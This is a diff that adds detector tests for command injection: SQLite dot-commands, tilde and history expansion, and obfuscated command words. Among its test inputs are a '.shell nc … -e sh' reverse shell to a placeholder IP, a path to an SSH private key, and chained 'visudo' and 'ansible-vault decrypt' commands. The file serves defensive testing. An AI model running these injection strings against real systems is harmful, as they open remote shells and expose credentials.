@@ -112,3 +112,43 @@ describe('cmdi: shell reading of variables, prefixes, brace alternatives and let
     expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
   });
 });
+
+describe('cmdi: sqlite dot-commands, tilde and history expansion, escaped English commands', () => {
+  it.each([
+    ['cmdi.chained-command', ';\n.shell nc 192.0.2.1 9 -e sh'],
+    ['cmdi.chained-command', '1;. system id'],
+    ['cmdi.chained-command', '";\\n.sh whoami'],
+    ['cmdi.chained-command', ';\n.databases'],
+    ['cmdi.shell-expansion', '~+2'],
+    ['cmdi.shell-expansion', '~-/.ssh/id_rsa'],
+    ['cmdi.shell-expansion', '!-1!-2'],
+    ['cmdi.obfuscated-word', '\\ls'],
+    ['cmdi.obfuscated-word', ';c$@at x'],
+    ['cmdi.chained-command', 'x; visudo\n'],
+    ['cmdi.chained-command', 'x; ansible-vault decrypt vault'],
+    ['cmdi.leading-command', 'chef-run all site.rb'],
+  ])('%s: %s', (id, v) => {
+    expect(rules(v)).toContain(id);
+  });
+
+  it.each([
+    'no; .shell is a file extension here',
+    'I said; .sh files are scripts',
+    '~5 min',
+    '~0',
+    '~+',
+    'Wow!!',
+    'yes!!!',
+    '!1 priority',
+    'ssh-keygen for beginners',
+    'well-known issue; built-in support for it',
+    "it's a 'cat' thing",
+    'C:\\Users\\me\\more',
+    'Thanks\n',
+    'ping me later',
+    'curl works with example.com',
+  ])('passes: %s', (v) => {
+    const r = inspector.inspect(query(v));
+    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
+  });
+});
